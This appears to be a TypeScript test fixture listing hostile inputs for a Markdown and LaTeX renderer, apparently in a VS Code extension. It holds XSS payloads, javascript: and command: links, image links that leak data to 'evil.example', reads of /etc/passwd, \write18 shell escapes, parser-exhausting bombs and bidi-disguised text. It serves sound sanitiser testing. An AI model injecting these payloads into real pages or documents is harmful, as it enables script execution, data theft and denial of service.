const scripts: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<a href="javascript:alert(1)">x</a>', '<form action="https://evil.example"><button>go</button></form>', '<input autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)></video>',
  '<object data="https://evil.example/x"></object>', '<embed src="https://evil.example/x">', '<link rel=stylesheet href=https://evil.example/x.css>', '<style>@import "https://evil.example/x.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">', '<template><img src=x onerror=alert(1)></template>', '<!--<img src="--><img src=x onerror=alert(1)>//">',
  '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", '</code><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</span></div></main><script>alert(1)</script>',
  '&lt;img src=x onerror=alert(1)&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '<img/src=`x`onerror=alert(1)>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<x onclick=alert(1) contenteditable>click</x>', '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '`<img src=x onerror=alert(1)>`', '```html\n<script>alert(1)</script>\n```', '```"><img src=x onerror=alert(1)>\ncode\n```', '~~~ \' onmouseover=alert(1) x=\'\ncode\n~~~', '# <img src=x onerror=alert(1)>', '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | d |', '> <svg onload=alert(1)>', '1. <img src=x onerror=alert(1)>',
];

const schemes: readonly string[] = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/png;base64,iVBORw0KGgo=', 'command:workbench.action.terminal.new', 'command:therefore.setApiKey', 'vscode://settings/x', 'vscode-insiders://x', 'vscode-resource:/etc/passwd', 'vscode-webview://x/', 'file:///etc/passwd', 'blob:https://evil.example/x',
  '//evil.example/x', '/etc/passwd', '../../x', '#x', '?x', 'ftp://evil.example', 'ws://evil.example', 'about:blank', 'view-source:https://evil.example', 'chrome://settings', 'ms-settings:', 'tel:123', 'https://user:pass@evil.example/', 'http:evil.example', 'https:\\\\evil.example', 'mailto:a@b?attach=/etc/passwd',
];

const addresses: readonly string[] = [
  '![x](https://evil.example/leak?q=secret)', '![x](//evil.example/leak)', '![x][ref]\n\n[ref]: https://evil.example/leak', '[![x](https://evil.example/a.png)](https://evil.example)', '![x](data:image/svg+xml,<svg/onload=alert(1)>)', '![\\](https://evil.example/x)', '![x](https://evil.example/x "onerror=alert(1)")',
  '![$x$](https://evil.example/\\(x\\))', '[x]: javascript:alert(1)\n\n[x]', '[x](https://ok.example "title\\" onmouseover=alert(1) x=\\"")', '[x](<javascript:alert(1)>)', '<javascript:alert(1)>', '<https://evil.example/auto>', 'https://evil.example/bare www.evil.example', '[a](https://ok.example/\u202egpj.exe)', '[https://bank.example](https://evil.example)',
];

const formulas: readonly string[] = [
  '\\href{javascript:alert(1)}{x}', '\\url{javascript:alert(1)}', '\\href{command:workbench.action.quit}{x}', '\\includegraphics{https://evil.example/x.png}', '\\includegraphics[width=1em]{data:image/svg+xml,x}', '\\htmlClass{x}{y}', '\\htmlId{panel}{y}', '\\htmlStyle{position:fixed;inset:0;background:url(https://evil.example)}{y}', '\\htmlData{onclick=alert(1)}{y}', '\\htmlData{x="><img src=x onerror=alert(1)>=1}{y}',
  '\\text{<img src=x onerror=alert(1)>}', '\\text{</span><script>alert(1)</script>}', '\\textcolor{red;background:url(https://evil.example/x)}{y}', '\\color{url(https://evil.example)}x', '\\colorbox{expression(alert(1))}{x}', '\\unknown<script>alert(1)</script>', '<script>alert(1)</script>', '\\verb|<img src=x onerror=alert(1)>|', '\\operatorname{<b>x</b>}', '\\tag{<img src=x onerror=alert(1)>} x',
  '\\rule{100000em}{100000em}', '\\rule[-1000em]{1em}{5000em}', '\\kern-100000em x', '\\raisebox{9999em}{x}', '\\hspace{-9999em}x', '\\Huge\\Huge x', '\\char"202E x', '\\unicode{x202E}', '\u202ex^2', 'x\u{e0041}\u{e0042}', '\u200bx\u200b',
  '{'.repeat(5000), '\\left('.repeat(1000), '\\frac'.repeat(500), '\\sqrt{'.repeat(900), 'x^'.repeat(2000), '\\begin{matrix}'.repeat(200), `\\begin{matrix}${'&'.repeat(3900)}\\end{matrix}`, `\\begin{matrix}${'&'.repeat(50_000)}\\end{matrix}`, `\\begin{array}{${'c'.repeat(3000)}}1\\end{array}`,
  '\\def\\a{\\a\\a}\\a', '\\def\\a{x\\a}\\a', '\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}\\a', `\\def\\a{${'x'.repeat(500)}}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c`, '\\gdef\\x{evil}', '\\global\\let\\frac\\relax', '\\edef\\a{\\a}\\a', '\\let\\text\\href', '\\expandafter\\def\\csname x\\endcsname{y}', '\\input{/etc/passwd}', '\\write18{id}', '\\require{html}\\class{x}{y}', '\\style{position:fixed}{x}', '\\cssId{panel}{x}',
  'a'.repeat(4000), '\\overbrace{'.repeat(150), '\\hat{'.repeat(300), '_'.repeat(300), "'".repeat(3000), '\\\\'.repeat(1500), '\\dots'.repeat(700), '\\underbrace{x}_{'.repeat(100), '\\binom'.repeat(400), '\\not'.repeat(900),
];

const bombs: readonly string[] = [
  '['.repeat(20_000), '!['.repeat(20_000), '[a]('.repeat(5000), '*'.repeat(20_000), '*a_'.repeat(7000), '_a'.repeat(10_000), '`'.repeat(20_001), '`a``b```'.repeat(2000), '> '.repeat(3000), `${'> '.repeat(120)}x`, '- '.repeat(3000), '1. '.repeat(2000), '#'.repeat(20_000), '$'.repeat(20_001), '$$'.repeat(9000), '\\('.repeat(8000), '\\['.repeat(8000), '\\begin{align}'.repeat(800), '$a '.repeat(6000),
  '<'.repeat(20_000), '&'.repeat(20_000), '&#x41;'.repeat(4000), '\\'.repeat(20_001), '|'.repeat(20_000), `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n${`|${'1|'.repeat(2000)}\n`.repeat(20)}`, '\n'.repeat(20_000), ' '.repeat(20_000), '\t'.repeat(20_000), `${'a'.repeat(20_000)}`, '~'.repeat(20_000), '~~a'.repeat(6000), '- a\n'.repeat(4000), '* a\n\n'.repeat(2500), '```\n'.repeat(4001), 'a\n'.repeat(9000), '\u0000'.repeat(2000), '\ufeff'.repeat(2000), '\u0300'.repeat(8000), '﷽'.repeat(2000), '👩‍👩‍👧‍👦'.repeat(1500),
];

const disguises: readonly string[] = [
  'access \u202elaeted\u202c', '\u2066\u2067evil\u2069\u2069', 'admin\u200bistrator', '\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}', '\u061c\u200e\u200f', '`rm\u202e fr- /`', '[a\u202eb](https://ok.example)', '\ufeff\u2060\u2061\u2062', '\u001b[31mred\u001b[0m', '\u0007\u0008\u007f', '\u0085\u009f', '\ufff9hidden\ufffb',
];

/** Texts that mean harm, wherever they are shown. */
export const payloads: readonly string[] = [
  ...scripts,
  ...schemes.map((href) => `[click](${href})`),
  ...addresses,
  ...formulas.map((latex) => `$${latex}$\n\n$$\n${latex}\n$$\n`),
  ...bombs,
  ...disguises,
];
